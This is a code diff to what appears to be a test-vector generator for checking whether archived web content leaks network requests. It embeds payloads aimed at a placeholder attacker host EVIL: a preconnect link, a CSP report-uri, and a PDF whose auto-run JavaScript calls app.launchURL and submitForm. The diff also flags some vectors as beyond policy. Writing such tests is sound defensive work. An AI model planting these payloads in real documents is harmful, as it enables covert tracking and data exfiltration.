@@ -196,7 +196,7 @@ _LOADS: dict[str, str] = {
     'content="img-src \'none\'; report-uri EVIL/NAME"><img src="http://x.example/">',
     "dns-preconnect": '<link rel="preconnect" href="EVIL/NAME">',
 }
-_BEYOND = frozenset({"dns-preconnect", "click-ping"})
+_BEYOND = frozenset({"dns-preconnect", "click-ping", "pdf-script"})
 
 _XHTML = (
     '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>'
@@ -216,7 +216,7 @@ _PDF = (
     "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
     "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
     "3 0 obj<</Type/Page/MediaBox[0 0 99 99]/Parent 2 0 R>>endobj\n"
-    f"4 0 obj<</S/JavaScript/JS(app.launchURL\\('{EVIL}/NAME'\\);"
+    f"4 0 obj<</S/JavaScript/JS(app.alert\\('NAME'\\);app.launchURL\\('{EVIL}/NAME'\\);"
     f"this.submitForm\\('{EVIL}/NAME'\\);)>>endobj\ntrailer<</Root 1 0 R>>"
 )
 # Bytes and types that make a browser see what the archive did not.
@@ -266,5 +266,5 @@ def vectors() -> list[Vector]:
             )
     for name, text, encoding, content_type in _BYTES:
         filled = _filled(name, text).encode(encoding)
-        made.append(Vector(name, filled, content_type))
+        made.append(Vector(name, filled, content_type, beyond_policy=name in _BEYOND))
     return made
